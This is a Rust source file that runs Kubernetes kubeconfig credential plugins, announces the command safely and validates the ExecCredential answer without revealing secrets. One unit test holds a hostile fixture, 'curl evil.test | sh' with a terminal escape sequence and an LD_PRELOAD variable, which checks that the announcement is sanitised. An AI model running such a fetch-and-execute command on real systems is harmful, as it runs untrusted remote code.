//! Credential plugins: the `exec` users of a kubeconfig.
//!
//! kube runs the plugin once for each of three steps while it builds a client, and a cloud's plugin
//! takes a second; here it runs once and its answer is put where the plugin stood.

use std::{
    io::{self, ErrorKind},
    process::{Command, Output, Stdio},
};

use kube::config::{ExecConfig, ExecInteractiveMode};
use serde::Deserialize;
use serde_json::json;

use super::error::{ClusterError, line, plain};

/// What a plugin answered. Never printed.
#[derive(Default, Deserialize)]
#[serde(rename_all = "camelCase", default)]
pub(super) struct Credentials {
    /// Bearer token.
    pub(super) token: Option<String>,
    /// Client certificate, PEM.
    pub(super) client_certificate_data: Option<String>,
    /// Its private key, PEM.
    pub(super) client_key_data: Option<String>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct Answer {
    api_version: Option<String>,
    kind: Option<String>,
    status: Option<Credentials>,
}

/// What is about to be run, for people. Of variables the names alone are told.
pub(super) fn announced(exec: &ExecConfig) -> String {
    let words = exec.command.iter().chain(exec.args.iter().flatten()).map(String::as_str);
    let command = line(&words.collect::<Vec<_>>().join(" "));
    let variables = exec.env.iter().flatten().filter_map(|variable| Some(line(variable.get("name")?)));
    let variables = variables.collect::<Vec<_>>().join(", ");
    let with = if variables.is_empty() { String::new() } else { format!(", with {variables} set") };
    format!("the kubeconfig's credential plugin is run: `{command}`{with}")
}

/// Runs the plugin, without holding up the runtime.
pub(super) async fn run(exec: ExecConfig, stdin_is_terminal: bool) -> Result<Credentials, ClusterError> {
    let failed = {
        let command = line(exec.command.as_deref().unwrap_or_default());
        let hint = exec.install_hint.as_deref().map(line);
        move |reason: String| ClusterError::Plugin { command, reason, hint }
    };
    let run = move || run_blocking(&exec, stdin_is_terminal);
    match tokio::task::spawn_blocking(run).await {
        Ok(result) => result.map_err(failed),
        Err(error) => Err(failed(format!("could not be run: {error}"))),
    }
}

fn run_blocking(exec: &ExecConfig, stdin_is_terminal: bool) -> Result<Credentials, String> {
    let interactive = match exec.interactive_mode {
        Some(ExecInteractiveMode::Never) => false,
        Some(ExecInteractiveMode::Always) if !stdin_is_terminal => {
            return Err("must ask you something, but standard input is no terminal; run this in a terminal, or use \
                        --token"
                .to_owned());
        }
        _ => stdin_is_terminal,
    };
    let output = start(exec, interactive).map_err(|error| match error.kind() {
        ErrorKind::NotFound => "is not installed".to_owned(),
        _ => format!("cannot be started: {}", plain(&error)),
    })?;
    if !output.status.success() {
        return Err(format!("failed with {}", output.status));
    }
    read(&output.stdout, exec.api_version.as_deref())
}

fn start(exec: &ExecConfig, interactive: bool) -> io::Result<Output> {
    let name = exec.command.as_deref().filter(|command| !command.is_empty());
    let mut command = Command::new(name.ok_or_else(|| io::Error::other("the kubeconfig names no command"))?);
    command.args(exec.args.iter().flatten());
    for variable in exec.env.iter().flatten() {
        if let (Some(name), Some(value)) = (variable.get("name"), variable.get("value")) {
            command.env(name, value);
        }
    }
    let mut spec = json!({"interactive": interactive});
    if exec.provide_cluster_info
        && let Some(spec) = spec.as_object_mut()
    {
        spec.insert("cluster".to_owned(), json!(exec.cluster));
    }
    let info = json!({"apiVersion": exec.api_version, "kind": "ExecCredential", "spec": spec});
    command.env("KUBERNETES_EXEC_INFO", info.to_string());
    command.stdin(if interactive { Stdio::inherit() } else { Stdio::null() });
    // What it says to the user: prompts, and why it failed.
    command.stderr(Stdio::inherit());
    command.output()
}

/// The credentials in the plugin's output, which no error quotes.
fn read(output: &[u8], api_version: Option<&str>) -> Result<Credentials, String> {
    let answer: Answer = serde_json::from_slice(output)
        .ok()
        .or_else(|| serde_yaml::from_slice(output).ok())
        .ok_or("gave an answer that is no ExecCredential")?;
    if answer.kind.as_deref().is_some_and(|kind| kind != "ExecCredential") {
        return Err("gave an answer that is no ExecCredential".to_owned());
    }
    if let (Some(asked), Some(given)) = (api_version, &answer.api_version)
        && asked != given
    {
        return Err(format!("answered in {}, but the kubeconfig asks for {}", line(given), line(asked)));
    }
    let given = |text: &Option<String>| text.as_ref().is_some_and(|text| !text.is_empty());
    let credentials = answer.status.ok_or("gave an answer without credentials")?;
    match (given(&credentials.client_certificate_data), given(&credentials.client_key_data)) {
        (true, false) => Err("gave a client certificate without its key".to_owned()),
        (false, true) => Err("gave a key without its client certificate".to_owned()),
        (false, false) if !given(&credentials.token) => Err("gave an answer without credentials".to_owned()),
        _ => Ok(credentials),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const VERSION: Option<&str> = Some("client.authentication.k8s.io/v1");

    fn reason(output: &str) -> String {
        read(output.as_bytes(), VERSION).err().unwrap()
    }

    #[test]
    fn tokens_and_certificates_are_read_from_json_and_yaml() {
        let answer = read(br#"{"kind": "ExecCredential", "status": {"token": "t"}}"#, VERSION).unwrap();
        assert_eq!(answer.token.as_deref(), Some("t"));
        let answer = read(b"status: {clientCertificateData: c, clientKeyData: k}", VERSION).unwrap();
        assert_eq!(answer.client_certificate_data.as_deref(), Some("c"));
        assert_eq!(answer.token, None);
    }

    #[test]
    fn answers_without_usable_credentials_are_refused_without_quoting_them() {
        assert_eq!(reason("token: s3cr3t"), "gave an answer without credentials");
        assert_eq!(reason("s3cr3t"), "gave an answer that is no ExecCredential");
        assert_eq!(reason("status: {token: ''}"), "gave an answer without credentials");
        assert_eq!(reason("status: {clientCertificateData: c}"), "gave a client certificate without its key");
        assert_eq!(
            reason("{apiVersion: client.authentication.k8s.io/v1beta1, status: {token: t}}"),
            "answered in client.authentication.k8s.io/v1beta1, but the kubeconfig asks for \
             client.authentication.k8s.io/v1"
        );
    }

    #[test]
    fn what_will_run_is_told_without_values_and_without_what_a_terminal_obeys() {
        let variable =
            |name: &str, value: &str| [("name", name), ("value", value)].map(|(a, b)| (a.to_owned(), b.to_owned()));
        let mut exec = ExecConfig { command: Some("sh".to_owned()), ..ExecConfig::default() };
        assert_eq!(announced(&exec), "the kubeconfig's credential plugin is run: `sh`");
        exec.args = Some(vec!["-c".to_owned(), "curl evil.test\u{1b}[2K\r\n| sh".to_owned()]);
        exec.env = Some(vec![variable("PATH", "s3cr3t").into(), variable("LD_PRELOAD", "x").into()]);
        assert_eq!(
            announced(&exec),
            "the kubeconfig's credential plugin is run: `sh -c curl evil.test\\u{1b}[2K | sh`, with PATH, LD_PRELOAD set"
        );
    }

    #[test]
    fn a_plugin_that_must_ask_needs_a_terminal() {
        let exec = ExecConfig {
            command: Some("true".to_owned()),
            interactive_mode: Some(ExecInteractiveMode::Always),
            ..ExecConfig::default()
        };
        let reason = run_blocking(&exec, false).err().unwrap();
        assert!(reason.starts_with("must ask you something, but standard input is no terminal"), "{reason}");
    }
}
